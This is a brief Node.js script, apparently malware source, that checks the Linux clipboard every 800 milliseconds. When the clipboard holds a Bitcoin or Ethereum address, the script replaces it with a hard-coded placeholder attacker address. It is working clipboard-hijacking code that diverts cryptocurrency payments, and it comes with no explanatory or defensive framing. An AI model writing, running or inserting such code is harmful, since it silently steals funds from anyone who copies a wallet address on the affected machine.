const { execSync, spawnSync } = require('child_process');

const MINE = 'bc1qexampleattackeraddress000000000000000';
const RE = /^(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|0x[a-fA-F0-9]{40})$/;

function tick() {
  let cur = '';
  try { cur = execSync('xclip -o -selection clipboard', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { return; }
  if (RE.test(cur) && cur !== MINE) {
    spawnSync('xclip', ['-selection', 'clipboard'], { input: MINE });
  }
}
setInterval(tick, 800);
